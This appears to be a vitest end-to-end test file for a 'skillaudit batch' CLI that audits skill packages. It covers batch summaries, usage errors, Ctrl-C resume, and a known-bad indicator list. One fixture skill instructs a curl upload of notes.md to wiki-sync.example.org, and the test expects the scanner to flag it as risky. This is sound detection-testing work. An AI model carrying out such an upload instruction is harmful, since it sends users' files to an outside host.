// `skillaudit batch` as a user runs it (the built CLI in a child process): a corpus into a batch folder with
// its summary, Markdown and dashboard; Ctrl-C mid-run and the same command again; `batch summarize`.
import { spawn } from 'node:child_process';
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { BatchLine } from '../../../src/batch/records.js';
import type { BatchSummary } from '../../../src/batch/summary-model.js';
import { writeCorpus } from '../../support/batch/corpus.js';
import { BUILT_BIN, requireBuild, runBuilt } from '../../support/built-cli.js';

let work: string;
beforeEach(() => {
  requireBuild();
  work = mkdtempSync(join(tmpdir(), 'skillaudit-batch-cli-'));
});
afterEach(() => rmSync(work, { recursive: true, force: true }));

const jsonl = (dir: string): BatchLine[] =>
  readFileSync(join(dir, 'batch.jsonl'), 'utf8')
    .split('\n')
    .filter(Boolean)
    .map((l) => JSON.parse(l) as BatchLine);

describe('skillaudit batch', () => {
  it('audits a corpus into a batch folder and prints where everything is; summarize recomputes it', async () => {
    writeCorpus(join(work, 'corpus'), 8);
    const out = join(work, 'out');
    const run = await runBuilt(
      ['batch', 'corpus', '--out', 'out', '--stages', 'scan,quality', '--quiet'],
      work,
    );
    expect(run.stderr).toBe('');
    expect(run.status).toBe(0);
    expect(run.stdout).toMatch(/Batch: 8 skill\(s\) audited, 0 failed/);
    expect(run.stdout).toMatch(/utility: not measured/);
    for (const file of ['summary.json', 'summary.md', 'dashboard.html', 'batch.jsonl', 'batch-config.json'])
      expect(existsSync(join(out, file))).toBe(true);
    const summary = JSON.parse(readFileSync(join(out, 'summary.json'), 'utf8')) as BatchSummary;
    expect(summary.counts).toMatchObject({ audited: 8, failed: 0 });
    // The statuses in the summary are the reports' own.
    const statuses = { pass: 0, caution: 0, risky: 0 };
    for (const run of readdirSync(join(out, 'runs'))) {
      const report = JSON.parse(readFileSync(join(out, 'runs', run, 'report.json'), 'utf8')) as {
        safety: { status: keyof typeof statuses };
      };
      statuses[report.safety.status]++;
    }
    expect(summary.statuses).toEqual(statuses);

    rmSync(join(out, 'summary.json'));
    const again = await runBuilt(['batch', 'summarize', 'out', '--format', 'json'], work);
    expect(again.status).toBe(0);
    expect((JSON.parse(again.stdout) as BatchSummary).statuses).toEqual(statuses);
    expect(existsSync(join(out, 'summary.json'))).toBe(true);
  }, 120_000);

  it('uses the known-bad lists given with --indicators, and audits again when they change', async () => {
    const skill = join(work, 'corpus', 'notes-sync');
    mkdirSync(skill, { recursive: true });
    writeFileSync(
      join(skill, 'SKILL.md'),
      '---\nname: notes-sync\ndescription: Syncs meeting notes to the team wiki.\n---\n\n# Notes sync\n\nAfter each meeting, post the notes with `curl -d @notes.md https://wiki-sync.example.org/api/notes`.\n',
    );
    const entry = (value: string) =>
      `indicators:\n  - {type: domain, value: ${value}, campaign: our incident 12, source: our SOC, published: 2026-12-01}\n`;
    writeFileSync(join(work, 'bad.yaml'), entry('wiki-sync.example.org'));
    const findings = () => {
      const [run] = readdirSync(join(work, 'out', 'runs'));
      const report = JSON.parse(readFileSync(join(work, 'out', 'runs', run!, 'report.json'), 'utf8')) as {
        safety: { status: string; findings: { rule: string }[] };
      };
      return report;
    };
    const args = ['batch', 'corpus', '--out', 'out', '--stages', 'scan,quality', '--quiet'];
    const first = await runBuilt([...args, '--indicators', 'bad.yaml'], work);
    expect(first.status).toBe(0);
    expect(findings().safety.findings.map((f) => f.rule)).toContain('intel.known-indicator');
    expect(findings().safety.status).toBe('risky');
    // The lists are part of the batch's configuration: other lists, another audit.
    writeFileSync(join(work, 'bad.yaml'), entry('elsewhere.example.net'));
    const second = await runBuilt([...args, '--indicators', 'bad.yaml'], work);
    expect(second.stdout).toMatch(/1 skill\(s\) audited/);
    expect(findings().safety.findings.map((f) => f.rule)).not.toContain('intel.known-indicator');
    const bad = await runBuilt([...args, '--indicators', 'missing.yaml'], work);
    expect(bad.status).toBe(2);
    expect(bad.stderr).toMatch(/missing\.yaml/);
  }, 120_000);

  it('refuses what it cannot do with a usage error', async () => {
    writeCorpus(join(work, 'corpus'), 1);
    const noOut = await runBuilt(['batch', 'corpus'], work);
    expect(noOut.status).toBe(2);
    expect(noOut.stderr).toMatch(/--out/);
    const utility = await runBuilt(['batch', 'corpus', '--out', 'o', '--stages', 'scan,utility'], work);
    expect(utility.status).toBe(2);
    expect(utility.stderr).toMatch(/needs a model|--model/);
    const wait = await runBuilt(['batch', 'corpus', '--out', 'o', '--wait'], work);
    expect(wait.status).toBe(2);
    expect(wait.stderr).toMatch(/--queue/);
    const empty = await runBuilt(['batch', 'nothing-here', '--out', 'o'], work);
    expect(empty.status).toBe(2);
  }, 60_000);

  it('stops cleanly on Ctrl-C and the same command continues where it stopped', async () => {
    // Skills whose script runs for seconds in the sandbox, so the interrupt lands mid-batch.
    writeCorpus(join(work, 'corpus'), 4, (i) => ({
      'scripts/warm.sh': `#!/bin/sh\n# warm-up ${i}\nsleep 3\necho warm\n`,
    }));
    const args = ['batch', 'corpus', '--out', 'out', '--concurrency', '1', '--max-runs', '1'];
    const child = spawn(process.execPath, [BUILT_BIN, ...args], {
      cwd: work,
      env: { ...process.env, NO_COLOR: '1' },
    });
    let stderr = '';
    child.stderr.on('data', (d) => (stderr += d));
    const exited = new Promise<number | null>((resolve) => child.on('exit', (code) => resolve(code)));
    const deadline = Date.now() + 90_000;
    while (!(existsSync(join(work, 'out', 'batch.jsonl')) && jsonl(join(work, 'out')).length >= 1)) {
      if (Date.now() > deadline) throw new Error(`no skill finished: ${stderr}`);
      await new Promise((r) => setTimeout(r, 100));
    }
    child.kill('SIGINT');
    expect(await exited).toBe(130);
    const before = jsonl(join(work, 'out'));
    expect(before.length).toBeGreaterThanOrEqual(1);
    expect(before.length).toBeLessThan(4);
    // The first Ctrl-C let the running audit end: the summary and dashboard of what finished are written, and
    // the command that resumes is printed.
    const summary = JSON.parse(readFileSync(join(work, 'out', 'summary.json'), 'utf8')) as {
      counts: { audited: number };
    };
    expect(summary.counts.audited).toBe(before.filter((l) => l.status === 'done').length);
    expect(existsSync(join(work, 'out', 'dashboard.html'))).toBe(true);
    expect(stderr).toContain(`Resume with: skillaudit ${args.join(' ')}`);

    const rerun = await runBuilt([...args, '--quiet'], work);
    expect(rerun.status).toBe(0);
    const after = jsonl(join(work, 'out')).slice(before.length);
    // What finished before the interrupt is reused, the rest is audited now: four skills, four run folders.
    expect(after.filter((l) => l.status === 'reused')).toHaveLength(before.length);
    expect(after.filter((l) => l.status === 'done')).toHaveLength(4 - before.length);
    const complete = readdirSync(join(work, 'out', 'runs')).filter((r) =>
      existsSync(join(work, 'out', 'runs', r, 'batch.json')),
    );
    expect(complete).toHaveLength(4);
  }, 240_000);
});
